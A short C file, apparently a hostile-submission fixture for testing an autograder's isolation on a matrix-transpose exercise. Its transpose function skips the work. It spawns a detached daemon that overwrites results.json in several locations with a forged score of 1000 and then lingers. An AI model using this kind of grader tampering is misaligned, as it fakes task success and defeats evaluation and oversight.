/* Hostile submission: leaves a background process behind that, later,
   rewrites results.json wherever it may be and keeps writing to the
   result descriptors. */
#include "transpose.h"
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

void transpose(double *out, const double *a, int rows, int cols)
{
    (void)out; (void)a; (void)rows; (void)cols;
    if (fork() == 0) {
        setsid();
        if (fork() == 0) {
            sleep(2);
            const char *paths[] = { "results.json", "../results.json", "../../results.json",
                                    "/autograder/results/results.json", "/tmp/results.json",
                                    "../../../results.json" };
            for (int i = 0; i < 6; i++) {
                FILE *f = fopen(paths[i], "w");
                if (f) {
                    fputs("{\"score\": 1000, \"tests\": []}", f);
                    fclose(f);
                }
            }
            for (;;)
                pause();
        }
        _exit(0);
    }
}
